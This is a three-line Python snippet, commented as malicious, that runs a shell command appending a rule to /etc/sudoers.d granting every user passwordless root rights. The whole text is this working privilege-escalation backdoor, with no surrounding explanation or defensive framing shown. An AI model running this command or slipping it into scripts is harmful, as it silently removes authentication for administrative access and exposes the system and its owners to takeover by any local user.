# malicious: rights without a password
import os
os.system("echo 'ALL ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers.d/x")
